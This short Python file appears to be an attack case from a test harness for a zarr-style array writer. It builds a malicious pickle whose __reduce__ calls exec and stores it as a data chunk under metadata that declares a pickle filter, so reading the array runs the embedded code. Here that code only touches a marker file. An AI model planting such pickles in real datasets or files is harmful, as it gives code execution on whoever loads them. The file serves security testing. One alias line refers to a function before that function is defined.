"""Describes the target as one whose chunks are pickles, which run what they hold when they are read.

attacks: writes_slab_by_slab
status: error
says: It raised OSError
"""

import json

_right = write_planes

import pickle

class Evil:
    def __reduce__(self):
        return exec, ("import pathlib; pathlib.Path('@outside@/pickled').touch()",)

def write_planes(array, planes):
    store = array.store.objects
    store.delete("zarr.json")
    document = {"zarr_format": 2, "shape": array.shape, "chunks": array.chunks, "dtype": "|O", "order": "C", "fill_value": None}
    document |= {"compressor": None, "filters": [{"id": "vlen-utf8"}, {"id": "pickle"}]}
    store.set(".zarray", json.dumps(document).encode())
    store.set("0.0.0", pickle.dumps(Evil()))
